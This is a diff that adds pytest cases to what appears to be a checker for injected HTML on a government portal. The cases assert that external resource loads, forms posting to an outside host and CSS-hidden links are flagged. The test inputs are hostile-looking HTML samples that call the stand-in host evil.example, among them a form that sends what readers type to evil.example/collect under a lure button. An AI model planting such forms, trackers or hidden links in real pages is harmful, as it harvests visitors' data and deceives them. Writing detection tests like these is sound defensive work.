@@ -92,3 +92,62 @@ def test_a_link_that_nobody_sees_is_told(context, code):
 )
 def test_what_comes_from_elsewhere_is_told(context, code):
     assert "TP005" in codes(context, code)
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        '<video poster="https://evil.example/1.jpg"></video>',
+        '<table background="//evil.example/1.gif"><tr><td>字</td></tr></table>',
+        '<link rel="preload" as="image" imagesrcset="https://evil.example/1.png 2x">',
+        '<input type="image" src="https://evil.example/1.png" alt="查">',
+        '<audio><track src="https://evil.example/1.vtt"></audio>',
+        '<svg><image href="https://evil.example/1.png"/></svg>',
+        '<svg><use xlink:href="https://evil.example/a.svg#b"/></svg>',
+        '<img srcset="https://evil.example/1.png 2x" alt="图">',
+    ],
+)
+def test_whatever_makes_a_browser_load_from_elsewhere_is_told(context, code):
+    assert "TP005" in codes(context, code)
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        '<form action="https://evil.example/collect"><input name="id"></form>',
+        "<FORM method=post action=//evil.example/collect><input name=id></FORM>",
+        "<form class=\"x\" action='https://evil.example/'><button>领取补贴</button></form>",
+    ],
+)
+def test_a_form_that_hands_what_readers_type_to_others_is_told(context, code):
+    assert "TP003" in codes(context, code)
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        '<form action="/search/"><input name="q"></form>',
+        '<form action="https://www.shili.gov.cn/search/"><input name="q"></form>',
+        '<p><a href="https://www.gov.cn/"><img src="/theme/badge.svg" alt="中国政府网"></a></p>',
+        '<video poster="/theme/badge.svg"></video>',
+    ],
+)
+def test_a_form_and_a_poster_of_the_portal_itself_are_silent(context, code):
+    assert codes(context, code) == set()
+
+
+@pytest.mark.parametrize(
+    ("style", "hides"),
+    [
+        ("opacity:0", True),
+        ("opacity: 0.0", True),
+        ("opacity:0.9", False),
+        ("font-size:0px", True),
+        ("font-size:0.9em", False),
+        ("text-indent:-9999px", True),
+        ("text-indent:-1em", False),
+    ],
+)
+def test_what_a_style_hides(context, style, hides):
+    told = codes(context, f'<p style="{style}"><a href="https://evil.example/">词</a></p>')
+    assert ("TP004" in told) is hides
